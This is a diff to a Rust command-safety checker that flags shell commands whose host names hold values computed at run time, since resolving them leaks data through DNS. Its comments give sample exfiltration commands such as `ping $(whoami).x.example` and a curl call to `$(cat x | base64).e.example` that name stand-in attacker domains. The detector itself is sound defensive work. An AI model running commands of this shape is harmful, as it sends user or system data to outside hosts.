@@ -1,17 +1,18 @@
 //! Commands that are neither in a catalogue nor destructive, but touch what a person must
 //! see first: credential stores and credential hunting, package installs (which run the
-//! package's code), and containers given the host. Soft (asked about in guard mode; in
+//! package's code), containers given the host, and host names computed at run time (the
+//! value resolving them sends to DNS). Soft (asked about in guard mode; in
 //! auto mode the reviewer needs the person's words naming the action and its target — so
 //! "install requests" does not cover `pip install reqeusts`) or, for credential stores,
 //! hard. Consulted for commands the catalogues left unknown, and for searches.
 
-use super::core::{Class, Cmd, Finding, JudgeCtx, Verdict};
+use super::core::{Class, Cmd, Finding, JudgeCtx, Verdict, HOST_AT_RUN_TIME};
 use crate::context::floor::{Access, PathClass};
 use crate::context::paths;
 
 use crate::analysis::effects::secrets::{expansions, Use};
-use crate::analysis::effects::{secret_name, Effect};
-use crate::analysis::shell::{Analysis, RedirectOp, SimpleCommand};
+use crate::analysis::effects::{secret_name, Carry, Effect};
+use crate::analysis::shell::{Analysis, Origin, RedirectOp, SimpleCommand};
 
 /// Words in a search pattern that mean "look for secrets".
 const SECRET_WORDS: &[&str] = &[
@@ -970,13 +971,16 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
                 });
             }
         }
+        // The value a host name computed at run time carries, and the word.
+        let mut sent: Option<(String, Carry)> = None;
         if hit.is_none() && RESOLVERS.contains(&prog) {
             let computed = sc
                 .exec
                 .iter()
                 .skip(1)
-                .any(|w| w.contains("$(") || w.contains('`'));
-            if computed {
+                .find(|w| w.contains("$(") || w.contains('`'));
+            if let Some(w) = computed {
+                sent = Some((w.clone(), Carry::Substitution));
                 hit = Some(Verdict::Soft {
                     category: "exfiltration",
                     reason: format!(
@@ -984,6 +988,44 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
                     ),
                     command: text.clone(),
                 });
+            }
+        }
+        // Any program not described as routine given a host name that holds a value
+        // computed at run time (`ping $(whoami).x.example`, `curl https://$USER.x.example/`):
+        // resolving it sends the value to whoever answers for the domain. A word its
+        // grammar names as a path (`tar -cf $(date).tar.gz`) is no host.
+        if hit.is_none() {
+            let f = findings.get(i);
+            let routine = f.is_some_and(|f| matches!(f.class, Class::Routine { .. }));
+            // Substitutions that only print literals (`$(echo bucket)`) put no value of this
+            // machine's into the name.
+            let literal_output = {
+                let mut subs = a
+                    .commands
+                    .iter()
+                    .filter(|c| c.part == sc.part && matches!(c.origin, Origin::Substitution));
+                subs.clone().next().is_some() && subs.all(|c| c.output.is_some())
+            };
+            let found = sc.exec.iter().skip(1).find_map(|w| {
+                computed_host(w)
+                    .filter(|c| !(literal_output && *c == Carry::Substitution))
+                    .filter(|_| !f.is_some_and(|f| names_path(f, w)))
+                    .map(|c| (w.clone(), c))
+            });
+            if let (false, Some((w, carry))) = (routine, found) {
+                let value = match &carry {
+                    Carry::Env { name } => format!("the value of ${name}"),
+                    _ => "a command's output".to_string(),
+                };
+                hit = Some(Verdict::Soft {
+                    category: "exfiltration",
+                    reason: format!(
+                        "{prog} {HOST_AT_RUN_TIME} `{}`, computed at run time: {value} leaves the machine in its DNS query",
+                        crate::decision::cause::one_line(&w, 80)
+                    ),
+                    command: text.clone(),
+                });
+                sent = Some((w, carry));
             }
         }
         let Some(v) = hit else { continue };
@@ -1010,10 +1052,14 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
                     category, reason, ..
                 },
             ) if !matches!(f.class, Class::Hard { .. }) => {
+                let (url, carry) = match sent {
+                    Some((w, c)) => (Some(w), c),
+                    None => (None, Carry::Substitution),
+                };
                 f.effects.push(Effect::Net {
-                    url: None,
+                    url,
                     host: None,
-                    sends: vec![crate::analysis::effects::Carry::Substitution],
+                    sends: vec![carry],
                 });
                 f.class = Class::Soft {
                     category,
@@ -1025,4 +1071,173 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
         out.push(v);
     }
     out
+}
+
+/// Last labels of file names that no top-level domain uses (checked against the public
+/// suffix list, `/usr/share/publicsuffix/public_suffix_list.dat` of Debian's publicsuffix
+/// package): a word ending in one (`$(date).tar.gz`) is a file name, never resolved by a
+/// public name server. A label with a digit (`bz2`, `mp4`) is no top-level domain either.
+const NOT_TLDS: &[&str] = &[
+    "gz", "xz", "zst", "lz", "tar", "tgz", "js", "ts", "jsx", "tsx", "mjs", "cjs", "css", "scss",
+    "json", "txt", "log", "html", "htm", "xml", "yml", "yaml", "toml", "lock", "bak", "tmp",
+    "orig", "rej", "patch", "diff", "csv", "tsv", "sql", "db", "sqlite", "whl", "deb", "rpm",
+    "jar", "war", "pdf", "png", "jpg", "jpeg", "gif", "svg", "webp", "wav", "exe", "dll", "dylib",
+    "out",
+];
+
+/// The value a word sends to DNS as part of a host name computed at run time: a URL whose
+/// host holds an expansion (`https://$(cat x | base64).e.example/`), or an expansion
+/// followed by a domain of two labels or more whose last could be a top-level domain
+/// (`$(whoami).x.example`, `${USER}.evil.example:53`). The output of a command
+/// substitution, or the value of a variable.
+pub(super) fn computed_host(word: &str) -> Option<Carry> {
+    if !word.contains(['$', '`']) {
+        return None;
+    }
+    if let Some(at) = word.find("://") {
+        let start = word[..at]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')))
+            .map_or(0, |i| i + 1);
+        let scheme = &word[start..at];
+        if scheme.starts_with(|c: char| c.is_ascii_alphabetic()) {
+            let rest = &word[at + 3..];
+            let auth = &rest[..top_level(rest, &['/', '?', '#']).unwrap_or(rest.len())];
+            let host = match top_level_last(auth, '@') {
+                Some(i) => &auth[i + 1..],
+                None => auth,
+            };
+            let host = &host[..top_level(host, &[':']).unwrap_or(host.len())];
+            return expansions_in(host).into_iter().next().map(|(_, _, c)| c);
+        }
+    }
+    for (_, end, carry) in expansions_in(word) {
+        let rest = &word[end..];
+        let rest = &rest[..top_level(rest, &[':', '/']).unwrap_or(rest.len())];
+        let rest = rest.strip_suffix('.').unwrap_or(rest);
+        let labels: Vec<&str> = rest.split('.').collect();
+        let shaped = labels.len() >= 3
+            && labels[1..]
+                .iter()
+                .all(|l| !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
+            && labels[0]
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '-');
+        let tld = labels.last().copied().unwrap_or("");
+        let could_be_tld = (tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic())
+            || tld.to_ascii_lowercase().starts_with("xn--"))
+            && !NOT_TLDS.contains(&tld.to_ascii_lowercase().as_str());
+        if shaped && could_be_tld {
+            return Some(carry);
+        }
+    }
+    None
+}
+
+/// The expansions in a word outside quotes' reach (`$(…)`, backquotes, `${…}`, `$NAME`),
+/// as (start, end, what they carry).
+fn expansions_in(word: &str) -> Vec<(usize, usize, Carry)> {
+    let b = word.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'`' => {
+                let end = word[i + 1..].find('`').map_or(b.len(), |j| i + 1 + j + 1);
+                out.push((i, end, Carry::Substitution));
+                i = end;
+            }
+            b'$' if b.get(i + 1) == Some(&b'(') => {
+                let end = closing(word, i + 1, b'(', b')');
+                out.push((i, end, Carry::Substitution));
+                i = end;
+            }
+            b'$' if b.get(i + 1) == Some(&b'{') => {
+                let end = closing(word, i + 1, b'{', b'}');
+                let inner = &word[i + 2..end.saturating_sub(1).max(i + 2)];
+                let name: String = inner
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                    .collect();
+                // Only a parameter bash expands (`${USER}`, `${HOST:-x}`): `${a.b}` is a
+                // bad substitution to bash (and a template literal's in other languages).
+                let rest = &inner[name.len()..];
+                let valid = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+                    && (rest.is_empty()
+                        || rest.starts_with([
+                            ':', '-', '+', '=', '?', '#', '%', '/', '^', ',', '@', '[',
+                        ]));
+                if valid {
+                    out.push((i, end, Carry::Env { name }));
+                }
+                i = end;
+            }
+            b'$' if b
+                .get(i + 1)
+                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') =>
+            {
+                let len = word[i + 1..]
+                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                    .unwrap_or(b.len() - i - 1);
+                out.push((
+                    i,
+                    i + 1 + len,
+                    Carry::Env {
+                        name: word[i + 1..i + 1 + len].to_string(),
+                    },
+                ));
+                i += 1 + len;
+            }
+            _ => i += 1,
+        }
+    }
+    out
+}
+
+/// The index just past the bracket that closes the one at `open` (the word's end when none
+/// does).
+fn closing(word: &str, open: usize, up: u8, down: u8) -> usize {
+    let mut depth = 0usize;
+    for (j, c) in word.bytes().enumerate().skip(open) {
+        if c == up {
+            depth += 1;
+        } else if c == down {
+            depth -= 1;
+            if depth == 0 {
+                return j + 1;
+            }
+        }
+    }
+    word.len()
+}
+
+/// The first of `stops` in `text` outside an expansion.
+fn top_level(text: &str, stops: &[char]) -> Option<usize> {
+    let spans = expansions_in(text);
+    text.char_indices()
+        .find(|(i, c)| stops.contains(c) && !spans.iter().any(|(s, e, _)| i >= s && i < e))
+        .map(|(i, _)| i)
+}
+
+/// The last `stop` in `text` outside an expansion.
+fn top_level_last(text: &str, stop: char) -> Option<usize> {
+    let spans = expansions_in(text);
+    text.char_indices()
+        .rev()
+        .find(|(i, c)| *c == stop && !spans.iter().any(|(s, e, _)| i >= s && i < e))
+        .map(|(i, _)| i)
+}
+
+/// Does the finding's grammar name `word` as a path it reads, writes, deletes, unpacks or
+/// runs?
+fn names_path(f: &Finding, word: &str) -> bool {
+    f.effects.iter().any(|e| match e {
+        Effect::Read { path, .. } | Effect::Write { path, .. } | Effect::Delete { path, .. } => {
+            path == word
+        }
+        Effect::Unpack { archive, into, .. } => archive == word || into == word,
+        Effect::Run {
+            code: crate::analysis::effects::Code::File { path },
+        } => path == word,
+        _ => false,
+    })
 }
